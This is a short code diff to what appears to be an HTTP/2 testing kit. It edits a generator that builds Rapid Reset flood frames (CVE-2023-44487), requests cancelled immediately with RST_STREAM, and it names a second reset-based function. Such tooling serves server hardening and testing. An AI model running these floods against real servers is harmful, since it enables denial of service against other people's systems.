@@ -27,13 +27,13 @@ from kit.wire import client_context, connect_tls  # noqa: E402
 BLOCK = 1000
 
 
-def rapid_reset(count: int) -> Iterator[bytes]:
-    """Requests that are cancelled at once (CVE-2023-44487)."""
+def rapid_reset(count: int, first: int = 1) -> Iterator[bytes]:
+    """Requests that are cancelled at once (CVE-2023-44487), on streams from `first` on."""
     request = headers(get("/flood"))[9:]
-    for start in range(0, count, BLOCK):
+    for start in range(first, first + 2 * count, 2 * BLOCK):
         yield b"".join(
             frame(Kind.HEADERS, END_HEADERS | END_STREAM, number, request) + rst_stream(number)
-            for number in range(2 * start + 1, 2 * (start + BLOCK) + 1, 2))
+            for number in range(start, start + 2 * BLOCK, 2))
 
 
 def made_you_reset(count: int) -> Iterator[bytes]:
